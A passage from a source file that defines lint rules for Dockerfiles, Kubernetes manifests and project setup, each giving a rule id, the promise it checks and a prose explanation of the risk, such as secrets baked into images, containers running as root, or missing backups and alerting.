    rule: dockerfileBrokenScript,
  },
  {
    id: 'dockerfile/cd-in-run',
    promise: 'Changing the directory lasts',
    why: 'Every `RUN` starts in the working directory. A `cd` at its end is forgotten by the next instruction, which then works in another folder than its author thinks.',
    rule: dockerfileCdInRun,
  },
  {
    id: 'dockerfile/copied-secret',
    promise: 'No file with credentials is copied into an image',
    why: "A file that was copied stays in its layer, also when a later instruction removes it. Keys and passwords belong in a secret mount during the build, and in the platform's secrets afterwards.",
    rule: dockerfileCopiedSecret,
  },
  {
    id: 'dockerfile/copy-without-directory',
    promise: 'Several files are copied into a folder',
    why: 'Docker asks for a `/` at the end of a destination that takes more than one file. Without it, the builder refuses the instruction or takes the folder for a file.',
    rule: dockerfileCopyWithoutDirectory,
  },
  {
    id: 'dockerfile/deprecated-maintainer',
    promise: 'Authors are named in a label',
    why: '`MAINTAINER` has been deprecated since 2017. Labels carry the same information in a form that registries and scanners read.',
    rule: dockerfileDeprecatedMaintainer,
  },
  {
    id: 'dockerfile/development-dependencies',
    promise: 'Images leave development packages out',
    why: 'Test runners, linters and compilers are more than half of many dependency trees. In a shipped image they take space and time, and their flaws show up in every scan.',
    rule: dockerfileDevelopmentDependencies,
  },
  {
    id: 'dockerfile/development-mode',
    promise: 'Images run in production mode',
    why: 'In development mode frameworks reload code, skip caches, and answer errors with stack traces and settings. Whoever runs the image gets all of that, and so do the visitors.',
    rule: dockerfileDevelopmentMode,
  },
  {
    id: 'dockerfile/development-server',
    promise: 'Images start a server for production',
    why: 'Servers for development compile at every start, watch files, show their insides in error pages and take one request at a time. Their authors warn against putting them where others can reach them. A server made for production, such as gunicorn, nginx or plain `node`, keeps this promise.',
    rule: dockerfileDevelopmentServer,
  },
  {
    id: 'dockerfile/disabled-healthcheck',
    promise: 'Health checks stay on',
    why: '`HEALTHCHECK NONE` turns off what the base image would have asked. A server that hangs then looks as healthy as one that works.',
    rule: dockerfileDisabledHealthcheck,
  },
  {
    id: 'dockerfile/disabled-signature-check',
    promise: 'Packages are installed with their signature checked',
    why: 'The signature proves that a package comes from the distribution or the maker it names. Without the check, a mirror or anyone between it and the builder can put their own package into the image.',
    rule: dockerfileDisabledSignatureCheck,
  },
  {
    id: 'dockerfile/disabled-tls-verification',
    promise: 'Downloads check the certificate of the server',
    why: 'Without the check of its certificate, anyone between the builder and the server can answer in its place, and what they send is built into the image.',
    rule: dockerfileDisabledTlsVerification,
  },
  {
    id: 'dockerfile/duplicate-stage',
    promise: 'Every stage has a name of its own',
    why: 'With two stages of one name, `COPY --from` and `--target` mean one of them, and not always the one their author had in mind.',
    rule: dockerfileDuplicateStage,
  },
  {
    id: 'dockerfile/empty-continuation',
    promise: 'Continued instructions have no empty lines',
    why: 'Docker skips empty lines inside an instruction with a warning, and its makers have announced that later builders will end the build there. A comment line is fine.',
    rule: dockerfileEmptyContinuation,
  },
  {
    id: 'dockerfile/exposed-ssh',
    promise: 'Nobody logs in to a container over SSH',
    why: 'An SSH server in a container needs keys, updates and a second process, and gives attackers one more way in. `docker exec` and `kubectl exec` do the same with the rights of the platform.',
    rule: dockerfileExposedSsh,
  },
  {
    id: 'dockerfile/hardcoded-secret',
    promise: 'No secret is built into an image',
    why: 'Every `ENV`, `ARG` and `RUN` stands in the history of the image in plain text. Whoever can pull the image, or read the file, has the secret, and it works until somebody changes it. A secret mount during the build, and the environment when it runs, keep this promise.',
    rule: dockerfileHardcodedSecret,
  },
  {
    id: 'dockerfile/ignored-source',
    promise: 'What is copied is not ignored',
    why: 'The ignore file decides what of the folder the builder gets at all. A `COPY` of something it leaves out fails the build with a message that says only that the file is not there.',
    rule: dockerfileIgnoredSource,
  },
  {
    id: 'dockerfile/interactive-install',
    promise: 'Installations ask nothing',
    why: 'Nobody is there to answer while an image is built. An installation that asks stops the build as soon as it needs more than the packages it was given.',
    rule: dockerfileInteractiveInstall,
  },
  {
    id: 'dockerfile/invalid-instruction',
    promise: 'Docker can read every instruction',
    why: 'The builder reads the whole file before it runs anything. One word that it does not know, or one argument too few, stops every build of the image.',
    rule: dockerfileInvalidInstruction,
  },
  {
    id: 'dockerfile/invalid-port',
    promise: 'Exposed ports are ports',
    why: '`EXPOSE` tells people and tools where the container listens. What is no port stops the build, or tells them wrong.',
    rule: dockerfileInvalidPort,
  },
  {
    id: 'dockerfile/late-directive',
    promise: 'Directives stand at the top',
    why: 'Docker looks for `syntax`, `escape` and `check` only in the first lines of a Dockerfile. Behind any other line, an empty one or a comment too, they are comments: the file is built by other rules than it says.',
    rule: dockerfileLateDirective,
  },
  {
    id: 'dockerfile/leaky-dockerignore',
    promise: 'The ignore file keeps secrets out of the image',
    why: '`COPY . .` takes everything that the ignore file does not name. An `.env` with the passwords of whoever builds the image, or a private key, then lies in it for everyone who can pull it.',
    rule: dockerfileLeakyDockerignore,
  },
  {
    id: 'dockerfile/legacy-key-value',
    promise: 'Variables and labels are set with an equals sign',
    why: '`ENV NAME value` takes everything to the end of the line for the value, so that a second variable on the line silently becomes part of the first. `NAME=value` says what is meant.',
    rule: dockerfileLegacyKeyValue,
  },
  {
    id: 'dockerfile/lone-update',
    promise: 'Package lists are as fresh as the installation',
    why: 'Docker keeps the layer of an `apt-get update` for weeks. A changed installation behind it then uses the old list, and fails on packages that were replaced, or installs versions with known flaws.',
    rule: dockerfileLoneUpdate,
  },
  {
    id: 'dockerfile/lost-setting',
    promise: 'Settings are made where they last',
    why: 'Every `RUN` has a shell of its own, and an image holds files only. Variables, options and activated environments are forgotten with it, and a server that it starts is stopped: the next instruction finds nothing of them.',
    rule: dockerfileLostSetting,
  },
  {
    id: 'dockerfile/missing-dockerignore',
    promise: 'Builds get only the files they need',
    why: '`COPY . .` takes along whatever lies in the folder. Without a `.dockerignore` that is the whole history, local settings with their passwords, and packages built for another machine, and every change of any of it spoils the cache.',
    rule: dockerfileMissingDockerignore,
  },
  {
    id: 'dockerfile/missing-healthcheck',
    promise: 'Docker notices when a server no longer answers',
    why: 'A process that hangs is still running, so Docker keeps sending it requests. With a `HEALTHCHECK` in the image, everybody who runs it sees that it no longer answers, waits for it at the start, and can have it replaced.',
    rule: dockerfileMissingHealthcheck,
  },
  {
    id: 'dockerfile/missing-pipefail',
    promise: 'A failed download stops the build',
    why: 'A pipe ends as its last command does. When the download in front of it fails, the build goes on with nothing or with half a file, and the image is broken in a way that shows only later. Programs that unpack or verify notice by themselves.',
    rule: dockerfileMissingPipefail,
  },
  {
    id: 'dockerfile/missing-source',
    promise: 'What is copied is there',
    why: 'The builder looks for the sources of a `COPY` in the folder it is given, and nowhere else. A file that was renamed, or that stands beside that folder, fails the build. A path inside the folder of the build keeps this promise.',
    rule: dockerfileMissingSource,
  },
  {
    id: 'dockerfile/non-numeric-user',
    promise: 'Kubernetes can tell that the user is not root',
    why: 'With `runAsNonRoot`, Kubernetes starts a container only when it knows that its user is not root. It cannot look up a name, so an image whose `USER` is a name does not start.',
    rule: dockerfileNonNumericUser,
  },
  {
    id: 'dockerfile/oversized-base',
    promise: 'Shipped images rest on a slim base',
    why: 'The plain images of languages hold compilers and libraries to build whatever comes. A stage that takes over what was built elsewhere needs none of it, and every scan finds flaws in it.',
    rule: dockerfileOversizedBase,
  },
  {
    id: 'dockerfile/package-cache-kept',
    promise: 'Images hold no caches of package managers',
    why: 'What a package manager fetches to do its work stays in the layer unless the same instruction removes it. It makes the image larger, and is out of date before anyone could use it.',
    rule: dockerfilePackageCacheKept,
  },
  {
    id: 'dockerfile/password-in-run',
    promise: 'No account has a password that the image gives away',
    why: 'A password in a `RUN` stands in the history of the image, for everyone who can pull it. An account of a container needs none: whoever may enter does so through the platform.',
    rule: dockerfilePasswordInRun,
  },
  {
    id: 'dockerfile/piped-install',
    promise: 'What a build runs was looked at first',
    why: 'A script piped from the network into a shell runs with the rights of the build, whatever it is that day. Fetched to a file and compared with a checksum, or installed as a package, it is what somebody reviewed.',
    rule: dockerfilePipedInstall,
  },
  {
    id: 'dockerfile/plain-http-download',
    promise: 'Downloads are encrypted',
    why: 'Over plain HTTP, anyone between the builder and the server can send something else, and the build puts it into the image without noticing.',
    rule: dockerfilePlainHttpDownload,
  },
  {
    id: 'dockerfile/recommended-packages',
    promise: 'Images hold the packages they need',
    why: 'Debian installs what a package recommends for a desktop or a server with users. In an image that is often more than the application itself, and every scan and update has to deal with it.',
    rule: dockerfileRecommendedPackages,
  },
  {
    id: 'dockerfile/redundant-platform',
    promise: 'Stages name a platform only where it is another',
    why: '`FROM` takes the image for the platform that is built for, which is what `$TARGETPLATFORM` says. Named nonetheless, it looks as if something were chosen here.',
    rule: dockerfileRedundantPlatform,
  },
  {
    id: 'dockerfile/relative-workdir',
    promise: 'Working directories start at the root',
    why: 'A relative `WORKDIR` is below that of the base image. When a new release of the base works elsewhere, the files of the application end up elsewhere too.',
    rule: dockerfileRelativeWorkdir,
  },
  {
    id: 'dockerfile/remote-add',
    promise: 'What a build fetches is what was reviewed',
    why: '`ADD` of an address puts into the image whatever is served there at that moment. An address that names a version, or `--checksum=sha256:…`, has every build take the same.',
    rule: dockerfileRemoteAdd,
  },
  {
    id: 'dockerfile/repeated-command',
    promise: 'A stage says once what it starts',
    why: 'Of several `CMD`, `ENTRYPOINT` or `HEALTHCHECK` instructions only the last one counts. The others look as if they were run, and whoever changes one of them changes nothing.',
    rule: dockerfileRepeatedCommand,
  },
  {
    id: 'dockerfile/root-user',
    promise: 'Containers run as a user without privileges',
    why: 'Without a `USER`, the processes in a container are root. Whoever breaks into one of them can change everything in the container, and is one flaw of the kernel away from being root on the host. A `USER` other than root in the last stage keeps this promise.',
    rule: dockerfileRootUser,
  },
  {
    id: 'dockerfile/self-copy',
    promise: 'Stages take files from other stages',
    why: 'A stage can only take files from stages that are finished. One that takes from itself never builds.',
    rule: dockerfileSelfCopy,
  },
  {
    id: 'dockerfile/shell-form-command',
    promise: 'The program gets the signal to stop',
    why: 'Written as plain text, a command is started by a shell. Many shells keep the signal to stop for themselves, so the program never cleans up, and every stop takes ten seconds until Docker kills it.',
    rule: dockerfileShellFormCommand,
  },
  {
    id: 'dockerfile/single-stage-build',
    promise: 'Images ship what runs, not what builds',
    why: 'Compilers, package caches and the source make an image ten times larger than the program in it, and give whoever breaks in the tools to go on. A second stage takes over the finished program and nothing else.',
    rule: dockerfileSingleStageBuild,
  },
  {
    id: 'dockerfile/source-before-dependencies',
    promise: 'Dependencies are installed before the source is copied',
    why: 'Docker builds anew everything behind the first thing that changed. With the source in front of the installation, every commit installs all dependencies again; with the manifests alone in front of it, that takes no time at all.',
    rule: dockerfileSourceBeforeDependencies,
  },
  {
    id: 'dockerfile/sudo',
    promise: 'Builds become root with USER',
    why: 'A `RUN` is root unless a `USER` says otherwise, and `USER root` makes it so again. `sudo` adds nothing but a program that has to be installed, and that attackers look for.',
    rule: dockerfileSudo,
  },
  {
    id: 'dockerfile/swallowed-instruction',
    promise: 'Every instruction stands on its own',
    why: 'A line that ends in the escape character goes on in the next one, over empty lines and comments too. An instruction that follows is then only words of the one above: the image lacks it, or the build fails with a riddle.',
    rule: dockerfileSwallowedInstruction,
  },
  {
    id: 'dockerfile/undefined-base-argument',
    promise: 'Base images are named by arguments that are set',
    why: 'A `FROM` sees only the arguments declared above the first `FROM`. Any other is empty, so the build fails on a name without an image or a tag.',
    rule: dockerfileUndefinedBaseArgument,
  },
  {
    id: 'dockerfile/undefined-variable',
    promise: 'Variables are set where they are used',
    why: 'Docker puts nothing in for a variable that the stage does not know, and says at most a warning. Paths, names and versions then lack a part, which shows much later, if at all.',
    rule: dockerfileUndefinedVariable,
  },
  {
    id: 'dockerfile/unexposed-port',
    promise: 'Published ports are those the image listens on',
    why: '`EXPOSE` says where an image listens. A compose file that publishes another port reaches nothing, or the image tells everyone else the wrong one.',
    rule: dockerfileUnexposedPort,
  },
  {
    id: 'dockerfile/unknown-stage',
    promise: 'Files come from stages that are there',
    why: "A name that no stage above has is taken for an image of a registry. At best the build fails, at worst somebody else's image of that name ends up in yours.",
    rule: dockerfileUnknownStage,
  },
  {
    id: 'dockerfile/unlocked-install',
    promise: 'Builds install the locked versions',
    why: 'A lock file names the versions that were tested. A plain installation may take newer ones, so that two builds of the same commit differ, and a bad release of a dependency goes straight into the image.',
    rule: dockerfileUnlockedInstall,
  },
  {
    id: 'dockerfile/unpinned-base',
    promise: 'Every build starts from the same release of its base image',
    why: 'A `FROM` without a tag, or with `latest`, takes whatever release is newest on the day of the build. The next build may get another major version, with nothing in the repository that says when or why. A tag with a version, such as `node:22-slim`, or a digest keeps this promise.',
    rule: dockerfileUnpinnedBase,
  },
  {
    id: 'dockerfile/unpinned-install',
    promise: 'Installed tools have a version',
    why: 'What is installed by name alone is whatever is newest at the time of the build. The same Dockerfile then makes another image next month, and a new major version breaks a build in which nobody changed anything.',
    rule: dockerfileUnpinnedInstall,
  },
  {
    id: 'dockerfile/world-writable-path',
    promise: 'Only their owner changes files',
    why: 'What everybody may write, a process that was broken into may write too: it replaces a script or a library, and the next one to run it is somebody with more rights.',
    rule: dockerfileWorldWritablePath,
  },
  {
    id: 'kubernetes/autoscaler-with-replicas',
    promise: 'The autoscaler alone decides on replicas',
    why: 'Where an autoscaler sets the replicas, every deployment of a manifest that states them too scales back to that number, often in the busiest hour.',
    rule: kubernetesAutoscalerWithReplicas,
  },
  {
    id: 'kubernetes/blocking-disruption-budget',
    promise: 'Budgets let nodes be drained',
    why: 'A budget that lets no pod go blocks every drain of the nodes that run one: upgrades of the cluster stop there, and somebody has to delete pods by hand.',
    rule: kubernetesBlockingDisruptionBudget,
  },
  {
    id: 'kubernetes/cluster-admin',
    promise: 'No workload owns the cluster',
    why: 'Pods of an account with `cluster-admin` carry a token that may read every secret and delete everything. One hole in one program is then a hole in all.',
    rule: kubernetesClusterAdmin,
  },
  {
    id: 'kubernetes/committed-secret',
    promise: 'Secrets are not kept in the repository',
    why: 'A Secret is only encoded, not encrypted: whoever reads the repository, now or in any old copy, has its values. A sealed or encrypted Secret, or a reference to a vault, keeps this promise.',
    rule: kubernetesCommittedSecret,
  },
  {
    id: 'kubernetes/cronjob-restart-policy',
    promise: 'Jobs say what happens when they fail',
    why: 'A job ends, so its pods may not restart always. That is the default, and the API server refuses a job that keeps it.',
    rule: kubernetesCronjobRestartPolicy,
  },
  {
    id: 'kubernetes/dangerous-capability',
    promise: 'Containers have no capability that opens their node',
    why: 'Some capabilities of Linux let a container leave it: mount the disks of its node, load code into the kernel, read any file.',
    rule: kubernetesDangerousCapability,
  },
  {
    id: 'kubernetes/docker-socket',
    promise: 'No pod controls the container runtime of its node',
    why: 'Through the socket of its container runtime a pod starts whatever it likes as root on its node. Mounting it hands the node over to whoever breaks in.',
    rule: kubernetesDockerSocket,
  },
  {
    id: 'kubernetes/duplicate-variable',
    promise: 'Every variable of a container is set once',
    why: 'Of two variables with one name the last one counts. The other is dead text, and who edits it wonders why nothing changes.',
    rule: kubernetesDuplicateVariable,
  },
  {
    id: 'kubernetes/fixed-autoscaler',
    promise: 'Autoscalers have room to scale',
    why: 'With as many replicas at least as at most, the autoscaler never does anything.',
    rule: kubernetesFixedAutoscaler,
  },
  {
    id: 'kubernetes/hardcoded-secret',
    promise: 'Credentials are not written into workloads',
    why: 'Whoever reads the repository, or may list workloads in the cluster, reads a credential that is written into one. It has to be changed everywhere the day it leaks.',
    rule: kubernetesHardcodedSecret,
  },
  {
    id: 'kubernetes/host-namespace',
    promise: 'Pods are kept apart from their nodes',
    why: 'A pod in the network, the process list or the shared memory of its node sees what all its neighbours do, and network policies do not hold it.',
    rule: kubernetesHostNamespace,
  },
  {
    id: 'kubernetes/host-path',
    promise: 'Pods do not depend on the disk of their node',
    why: 'What a pod writes to a directory of its node is gone when the pod moves to another one; and the directory lets whoever breaks into the pod read and change the node. A volume claim, or an `emptyDir` for what may be lost, keeps this promise.',
    rule: kubernetesHostPath,
  },
  {
    id: 'kubernetes/host-port',
    promise: 'Pods do not take ports of their nodes',
    why: 'A port of the node can be taken once, so only one such pod fits on a node: a rollout waits for a free node, and the port is open past every Service and network policy.',
    rule: kubernetesHostPort,
  },
  {
    id: 'kubernetes/identical-probes',
    promise: 'A busy container is not restarted',
    why: 'When readiness and liveness ask the same and give up at the same time, a container under load is restarted instead of being left alone until it has caught up.',
    rule: kubernetesIdenticalProbes,
  },
  {
    id: 'kubernetes/ingress-without-tls',
    promise: 'Traffic from outside is encrypted',
    why: 'Without TLS, passwords and sessions cross every network between the visitor and the cluster in plain text.',
    rule: kubernetesIngressWithoutTls,
  },
  {
    id: 'kubernetes/invalid-label',
    promise: 'Labels have values that Kubernetes takes',
    why: 'A label is at most 63 characters of letters, digits, `-`, `_` and `.`, and begins and ends with a letter or digit. The API server refuses anything else.',
    rule: kubernetesInvalidLabel,
  },
  {
    id: 'kubernetes/invalid-quantity',
    promise: 'Amounts are written as Kubernetes reads them',
    why: 'The API server refuses an object with an amount it cannot read. `512Mi` is 512 mebibytes, `512M` megabytes; `512MB` is nothing.',
    rule: kubernetesInvalidQuantity,
  },
  {
    id: 'kubernetes/invalid-schedule',
    promise: 'Scheduled jobs have a time at which they run',
    why: 'The API server refuses a CronJob whose schedule it cannot read, so the backup or the report it was for never runs.',
    rule: kubernetesInvalidSchedule,
  },
  {
    id: 'kubernetes/latest-pull-policy',
    promise: 'Nodes do not keep old images of a moving tag',
    why: 'A tag such as `latest` moves. With `IfNotPresent` each node keeps the image that it pulled first, so pods of one workload run different releases and a restart changes which.',
    rule: kubernetesLatestPullPolicy,
  },
  {
    id: 'kubernetes/missing-disruption-budget',
    promise: 'Node drains leave replicas running',
    why: 'A cluster upgrade drains its nodes, and without a PodDisruptionBudget a drain evicts every pod of a workload that it meets. With a budget, the pods move one after the other and the rest keep serving.',
    rule: kubernetesMissingDisruptionBudget,
  },
  {
    id: 'kubernetes/missing-memory-limit',
    promise: 'Every container has a memory limit',
    why: 'A container without a memory limit can take all the memory of its node. The kernel then kills processes of other pods there, or the node itself stops answering.',
    rule: kubernetesMissingMemoryLimit,
  },
  {
    id: 'kubernetes/missing-network-policy',
    promise: 'Pods accept traffic from where it belongs',
    why: 'Without a network policy every pod of the cluster reaches every port of every other one. A hole in the smallest program is then a way to the database.',
    rule: kubernetesMissingNetworkPolicy,
  },
  {
    id: 'kubernetes/missing-pod-security-level',
    promise: 'Namespaces refuse pods that open their node',
    why: 'A label on the namespace has Kubernetes refuse pods that ask for the rights of their node. Without it every manifest, also the one an attacker brings, gets what it asks for.',
    rule: kubernetesMissingPodSecurityLevel,
  },
  {
    id: 'kubernetes/missing-readiness-probe',
    promise: 'Pods get traffic only when they are ready',
    why: 'Without a readiness probe, a Service sends requests to a pod as soon as its process starts. Every rollout and every restart then fails the requests that come before the application can answer.',
    rule: kubernetesMissingReadinessProbe,
  },
  {
    id: 'kubernetes/missing-requests',
    promise: 'Every container says what it needs',
    why: 'The scheduler puts a pod on a node by its requests alone. A container without them may land on a full node, where it is slow, and is the first to be evicted.',
    rule: kubernetesMissingRequests,
  },
  {
    id: 'kubernetes/missing-seccomp-profile',
    promise: 'The kernel refuses unusual system calls',
    why: 'Without a seccomp profile a container may make every system call, and most ways out of containers begin with a rare one. The profile of the container runtime refuses those.',
    rule: kubernetesMissingSeccompProfile,
  },
  {
    id: 'kubernetes/missing-spread',
    promise: 'Replicas run on different nodes',
    why: 'Replicas on one node go down with it. A spread constraint has the scheduler put them on different nodes where it can.',
    rule: kubernetesMissingSpread,
  },
  {
    id: 'kubernetes/mounted-service-account-token',
    promise: 'Pods carry no token they do not use',
    why: 'Kubernetes puts a token for its API into every pod. Most programs never use it; whoever breaks in does.',
    rule: kubernetesMountedServiceAccountToken,
  },
  {
    id: 'kubernetes/naked-pod',
    promise: 'Something brings every pod back',
    why: 'A pod on its own is gone when its node goes, or when somebody drains it. A Deployment, a StatefulSet or a Job starts it again elsewhere.',
    rule: kubernetesNakedPod,
  },
  {
    id: 'kubernetes/privilege-escalation',
    promise: 'Processes cannot gain privileges',
    why: 'Unless a container forbids it, a process in it can gain rights that it did not start with, as `sudo` and other setuid programs do. An intruder who finds such a program becomes root.',
    rule: kubernetesPrivilegeEscalation,
  },
  {
    id: 'kubernetes/privileged',
    promise: 'Containers do not run with every right of their node',
    why: 'A privileged container sees all devices of its node and may do anything there. Who breaks into it owns the node and every pod on it.',
    rule: kubernetesPrivileged,
  },
  {
    id: 'kubernetes/recreate-strategy',
    promise: 'Rollouts do not interrupt the service',
    why: 'With `Recreate` every rollout stops all pods before it starts a new one, and until that is ready nobody answers.',
    rule: kubernetesRecreateStrategy,
  },
  {
    id: 'kubernetes/removed-api',
    promise: 'Manifests use API versions that Kubernetes serves',
    why: 'Each API version is removed some releases after its successor comes. From then on the API server refuses the object, and an upgrade of the cluster becomes an outage of the next deployment. The version that took its place keeps this promise.',
    rule: kubernetesRemovedApi,
  },
  {
    id: 'kubernetes/request-above-limit',
    promise: 'No container requests more than its limit',
    why: 'The API server refuses a workload whose container requests more of something than its limit: the rollout does not start.',
    rule: kubernetesRequestAboveLimit,
  },
  {
    id: 'kubernetes/retained-capabilities',
    promise: 'Containers give up rights of root they do not need',
    why: 'A container starts with a dozen rights of root, such as forging network packets and changing the owner of files. An attacker uses what the program never needed.',
    rule: kubernetesRetainedCapabilities,
  },
  {
    id: 'kubernetes/root-user',
    promise: 'Containers do not run as root',
    why: 'Most images start as root unless somebody says otherwise. Root in a container is one kernel bug away from root on the node.',
    rule: kubernetesRootUser,
  },
  {
    id: 'kubernetes/secret-in-configmap',
    promise: 'ConfigMaps hold no credentials',
    why: 'A ConfigMap is for what everyone may read: it is shown in dashboards, kept unencrypted, and granted to many accounts.',
    rule: kubernetesSecretInConfigmap,
  },
  {
    id: 'kubernetes/selector-mismatch',
    promise: 'Workloads select their own pods',
    why: 'The API server refuses a workload whose selector does not take the pods of its own template.',
    rule: kubernetesSelectorMismatch,
  },
  {
    id: 'kubernetes/service-without-pods',
    promise: 'Every Service has pods',
    why: 'A Service whose selector no pod matches accepts connections and answers none.',
    rule: kubernetesServiceWithoutPods,
  },
  {
    id: 'kubernetes/single-replica',
    promise: 'A lost node does not stop the service',
    why: 'With one replica every drain, crash and full node is an outage until the pod runs elsewhere.',
    rule: kubernetesSingleReplica,
  },
  {
    id: 'kubernetes/statefulset-without-service',
    promise: 'Pods of a StatefulSet have names',
    why: 'The pods of a StatefulSet find each other by names that its Service gives them. Without the Service there are no names, and clusters do not form.',
    rule: kubernetesStatefulsetWithoutService,
  },
  {
    id: 'kubernetes/unbounded-cronjob',
    promise: 'Runs of a cron job do not pile up',
    why: 'A run that hangs never ends, and the next one starts beside it, until the cluster or the database behind it is full of them.',
    rule: kubernetesUnboundedCronjob,
  },
  {
    id: 'kubernetes/unknown-autoscaler-target',
    promise: 'Autoscalers have something to scale',
    why: 'An autoscaler whose target does not exist does nothing, and says so only in its events.',
    rule: kubernetesUnknownAutoscalerTarget,
  },
  {
    id: 'kubernetes/unknown-config-reference',
    promise: 'Pods find the settings they refer to',
    why: 'A pod that refers to a key which its ConfigMap or Secret lacks does not start.',
    rule: kubernetesUnknownConfigReference,
  },
  {
    id: 'kubernetes/unknown-field',
    promise: 'Objects have only fields that Kubernetes knows',
    why: 'A misspelt field, or one at the wrong level, makes `kubectl apply` and Helm refuse the object; where nobody checks, the setting is dropped and nobody is told: the probe never asks, the limit never holds.',
    rule: kubernetesUnknownField,
  },
  {
    id: 'kubernetes/unknown-ingress-backend',
    promise: 'Every path of an Ingress leads somewhere',
    why: 'A path to a Service or port that does not exist answers every request with an error.',
    rule: kubernetesUnknownIngressBackend,
  },
  {
    id: 'kubernetes/unknown-probe-port',
    promise: 'Probes ask ports that exist',
    why: 'A probe that names a port its container does not declare always fails: the container is restarted again and again, or never gets traffic.',
    rule: kubernetesUnknownProbePort,
  },
  {
    id: 'kubernetes/unknown-service-account',
    promise: 'Pods run as accounts that exist',
    why: 'No pod of a workload starts when its ServiceAccount does not exist.',
    rule: kubernetesUnknownServiceAccount,
  },
  {
    id: 'kubernetes/unknown-target-port',
    promise: 'Services send to ports that exist',
    why: 'A Service that names a port which no container declares has no endpoints: connections to it hang or are refused.',
    rule: kubernetesUnknownTargetPort,
  },
  {
    id: 'kubernetes/unmatched-disruption-budget',
    promise: 'Every budget protects pods',
    why: 'A budget whose selector no pod matches protects nothing, and drains go on as if it were not there.',
    rule: kubernetesUnmatchedDisruptionBudget,
  },
  {
    id: 'kubernetes/unmatched-network-policy',
    promise: 'Network policies select pods',
    why: 'A policy whose labels no pod carries lets everything through to the pods that it is meant for, and nobody is told.',
    rule: kubernetesUnmatchedNetworkPolicy,
  },
  {
    id: 'kubernetes/unpinned-image',
    promise: 'Images have a fixed version',
    why: 'An image without a tag, or with `latest`, is whatever was pushed last: two pods of one workload may run different releases, and a rollback brings back the same one. A tag with a version, or a digest, keeps this promise.',
    rule: kubernetesUnpinnedImage,
  },
  {
    id: 'kubernetes/unquoted-text',
    promise: 'Texts that look like numbers are quoted',
    why: 'Labels, annotations, variables and settings are text. YAML reads `8080` as a number and `true` as yes; Kubernetes refuses the object instead of turning it into text.',
    rule: kubernetesUnquotedText,
  },
  {
    id: 'kubernetes/wildcard-role',
    promise: 'Roles say what they allow',
    why: 'A role with every verb on every resource also allows what nobody thought of: reading all secrets, giving itself more rights, and whatever later versions bring.',
    rule: kubernetesWildcardRole,
  },
  {
    id: 'kubernetes/writable-root-filesystem',
    promise: 'Programs cannot be changed while they run',
    why: 'With a writable root filesystem an attacker replaces programs and leaves tools behind. Read-only, with a volume for what the program really writes, there is no place for them.',
    rule: kubernetesWritableRootFilesystem,
  },
  {
    id: 'project/blocking-index',
    promise: 'New indexes do not lock their table',
    why: 'PostgreSQL lets nobody write to a table while it builds an index on it, unless it is told to build it concurrently. On a large table that is minutes of outage.',
    rule: projectBlockingIndex,
  },
  {
    id: 'project/incomplete-env-example',
    promise: 'The sample names every variable the code reads',
    why: 'A variable that the code needs and the sample does not name is found when the service fails to start, by somebody who does not know what it is for.',
    rule: projectIncompleteEnvExample,
  },
  {
    id: 'project/irreversible-migration',
    promise: 'Migrations can be taken back',
    why: 'When a release is rolled back the code before it meets the new schema. A `downgrade` that undoes the change lets both go back together.',
    rule: projectIrreversibleMigration,
  },
  {
    id: 'project/missing-alerting',
    promise: 'Somebody is told when the service fails',
    why: 'Users notice an outage at once. Without an alert the people who could mend it hear of it from them. Alert rules, Alertmanager, monitors in Terraform, CloudWatch alarms and error trackers all keep this promise.',
    rule: projectMissingAlerting,
  },
  {
    id: 'project/missing-app-service',
    promise: 'The compose file runs the application too',
    why: 'A compose file that starts only what the application needs leaves the application itself to be started by hand, with ports and variables that nobody wrote down.',
    rule: projectMissingAppService,
  },
  {
    id: 'project/missing-approval',
    promise: 'A bad change can be held back before production',
    why: 'Between a push and production stands an environment that asks for approval, a staging that is looked at first, or a start by hand. Where nothing does, the first bad push is an outage.',
    rule: projectMissingApproval,
  },
  {
    id: 'project/missing-autoscaling',
    promise: 'Instances follow the load',
    why: 'An orchestrator can start instances as load comes and stop them as it goes. It only has to be told the bounds.',
    rule: projectMissingAutoscaling,
  },
  {
    id: 'project/missing-backup',
    promise: 'Data is backed up',
    why: 'Disks fail, and people delete the wrong table. What is not backed up is gone. A script that dumps the database, a tool such as pgBackRest, Velero or restic, or a backup plan in Terraform keeps this promise.',
    rule: projectMissingBackup,
  },
  {
    id: 'project/missing-branch-protection',
    promise: 'The main branch is protected',
    why: 'Checks that a merge does not wait for are advice. Rulesets or settings kept as files, code owners, or Terraform show that it does; where the protection is set in the web interface, an attestation with a link keeps this promise.',
    rule: projectMissingBranchProtection,
  },
  {
    id: 'project/missing-change-record',
    promise: 'It is recorded what was released when',
    why: 'Most incidents begin with a change, so the first question is what changed. A changelog, releases, a deployment log, or environments of the pipeline answer it.',
    rule: projectMissingChangeRecord,
  },
  {
    id: 'project/missing-code-scanning',
    promise: 'Code is scanned for security holes',
    why: 'CodeQL, Semgrep, Sonar, Bandit and their like know the patterns of injections, path traversals and weak cryptography, and read every line of every change.',
    rule: projectMissingCodeScanning,
  },
  {
    id: 'project/missing-correlation-id',
    promise: 'One request can be followed through the logs',
    why: 'While many requests run at once their log lines mix. An id that every line of a request carries, taken over from the caller, lets one of them be read alone. Tracing keeps this promise too.',
    rule: projectMissingCorrelationId,
  },
  {
    id: 'project/missing-dashboards',
    promise: 'A dashboard shows the state of the service',
    why: 'Whoever is woken at night wants one page that says what is slow and what fails. Dashboards kept as files come back with the monitoring and are reviewed like code.',
    rule: projectMissingDashboards,
  },
  {
    id: 'project/missing-datastore-setup',
    promise: 'What the code depends on is set up from files',
    why: 'A database that everybody installs for themselves has another version and other settings on each machine. A compose file, a manifest, Terraform or a container of the tests, which give all the same, keep this promise.',
    rule: projectMissingDatastoreSetup,
  },
  {
    id: 'project/missing-dependency-updates',
    promise: 'Dependencies are kept up to date',
    why: 'Most holes in a service are in what it is built from, and most are mended upstream before anybody uses them. Dependabot, Renovate or their like bring the mended versions as pull requests.',
    rule: projectMissingDependencyUpdates,
  },
  {
    id: 'project/missing-deploy-script',
    promise: 'The steps of a deployment are written as a script',
    why: 'Before a pipeline can deploy, the steps have to be a script: then anyone can run them, and they are the same each time.',
    rule: projectMissingDeployScript,
  },
  {
    id: 'project/missing-deployment-pipeline',
    promise: 'Deployments run by themselves',
    why: 'A deployment by hand depends on who does it and on what they forget. A job that deploys, a platform that does, or a controller such as Argo CD keeps this promise.',
    rule: projectMissingDeploymentPipeline,
  },
  {
    id: 'project/missing-env-example',
    promise: 'A sample shows which variables to set',
    why: 'Whoever starts the project for the first time needs to know which variables it reads. A `.env.example` without values says so, and is reviewed with the code that needs them.',
    rule: projectMissingEnvExample,
  },
  {
